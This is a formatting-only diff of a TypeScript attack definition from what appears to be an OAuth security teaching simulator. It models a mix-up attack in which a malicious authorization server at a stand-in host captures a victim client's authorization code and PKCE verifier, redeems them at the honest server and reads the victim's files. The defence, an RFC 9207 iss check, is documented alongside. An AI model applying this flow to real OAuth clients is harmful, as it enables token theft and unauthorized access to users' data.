@@ -17,12 +17,16 @@ const captured = new WeakMap<object, URLSearchParams>();
 export const mixUp: AttackDef = {
   id: 'mix-up',
   title: 'Mix-up: a malicious authorization server',
-  summary: 'The attacker\'s MCP server names the attacker\'s authorization server, which forwards the victim to the honest one and waits for the code at its own token endpoint.',
+  summary:
+    "The attacker's MCP server names the attacker's authorization server, which forwards the victim to the honest one and waits for the code at its own token endpoint.",
   target: 'client',
   rules: ['C-18', 'C-19', 'C-20', 'C-21', 'A-08'],
   lesson: 'consent-code-iss',
   preconditions: [],
-  defence: { label: 'The client compares iss with the issuer it recorded (RFC 9207)', vulnerabilities: ['client-no-iss-check'] },
+  defence: {
+    label: 'The client compares iss with the issuer it recorded (RFC 9207)',
+    vulnerabilities: ['client-no-iss-check'],
+  },
   victim: { scenario: 'first-connection', registration: 'cimd', serverUrl: (world) => world.urls.evilMcp },
   lanes: ['attacker'],
   hosts: (world) => {
@@ -30,7 +34,13 @@ export const mixUp: AttackDef = {
     const evil = endpoints(attackerIssuer);
     return [
       http.post(evilMcp, () => challengeResponse(evilMcp, { scope: 'files:read' })),
-      http.get(prmUrlFor(evilMcp), () => HttpResponse.json({ resource: evilMcp, authorization_servers: [attackerIssuer], scopes_supported: ['files:read'] })),
+      http.get(prmUrlFor(evilMcp), () =>
+        HttpResponse.json({
+          resource: evilMcp,
+          authorization_servers: [attackerIssuer],
+          scopes_supported: ['files:read'],
+        }),
+      ),
       http.get(asMetadataUrls(attackerIssuer)[0] ?? '', () =>
         HttpResponse.json({
           issuer: attackerIssuer,
@@ -45,7 +55,9 @@ export const mixUp: AttackDef = {
       // Step 2 of the attack: bounce the browser to the honest server, for the honest resource.
       http.get(evil.authorization_endpoint, ({ request }) => {
         const honest = new URL(endpoints(issuer).authorization_endpoint);
-        new URL(request.url).searchParams.forEach((v, k) => honest.searchParams.set(k, k === 'resource' ? mcp : v));
+        new URL(request.url).searchParams.forEach((v, k) =>
+          honest.searchParams.set(k, k === 'resource' ? mcp : v),
+        );
         return redirect(honest.href);
       }),
       // Step 4: the vulnerable client posts the honest code and its verifier here.
@@ -57,16 +69,26 @@ export const mixUp: AttackDef = {
     ];
   },
   explain: {
-    vulnerable: 'The response came from the honest server but the client had recorded the attacker\'s issuer. Without the iss check it sent the code and the PKCE verifier to the attacker, who redeemed them at the honest server. PKCE cannot help: the verifier itself was handed over.',
-    defended: 'C-19/C-20: iss (https://auth.example.com) did not equal the recorded issuer (https://attacker-as.example), so the client discarded the response before any token request (C-21).',
+    vulnerable:
+      "The response came from the honest server but the client had recorded the attacker's issuer. Without the iss check it sent the code and the PKCE verifier to the attacker, who redeemed them at the honest server. PKCE cannot help: the verifier itself was handed over.",
+    defended:
+      'C-19/C-20: iss (https://auth.example.com) did not equal the recorded issuer (https://attacker-as.example), so the client discarded the response before any token request (C-21).',
   },
   async act({ world, attacker }) {
     const form = captured.get(world);
-    if (!form) return { attackerWon: false, evidence: 'The attacker\'s token endpoint never received a code.' };
-    await attacker.note('Holds the honest code and verifier', 'The victim\'s client sent them to the attacker\'s token endpoint.', {
-      mark: 'stolen',
-      values: { code: short(form.get('code') ?? ''), code_verifier: short(form.get('code_verifier') ?? '') },
-    });
+    if (!form)
+      return { attackerWon: false, evidence: "The attacker's token endpoint never received a code." };
+    await attacker.note(
+      'Holds the honest code and verifier',
+      "The victim's client sent them to the attacker's token endpoint.",
+      {
+        mark: 'stolen',
+        values: {
+          code: short(form.get('code') ?? ''),
+          code_verifier: short(form.get('code_verifier') ?? ''),
+        },
+      },
+    );
     const res = await attacker.token({
       grant_type: 'authorization_code',
       code: form.get('code') ?? '',
@@ -76,10 +98,17 @@ export const mixUp: AttackDef = {
       resource: world.urls.mcp,
     });
     const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
-    if (!token) return { attackerWon: false, evidence: `Redeeming at the honest server failed: ${String(res.body.error)}.` };
+    if (!token)
+      return {
+        attackerWon: false,
+        evidence: `Redeeming at the honest server failed: ${String(res.body.error)}.`,
+      };
     const call = await attacker.callTool(token, 'read_file', { path: 'notes/plan.md' });
     return ranAsVictim(world, call)
-      ? { attackerWon: true, evidence: 'The honest server issued the attacker a token for the victim\'s files.' }
+      ? {
+          attackerWon: true,
+          evidence: "The honest server issued the attacker a token for the victim's files.",
+        }
       : { attackerWon: false, evidence: `The token did not work (${call.status}).` };
   },
 };
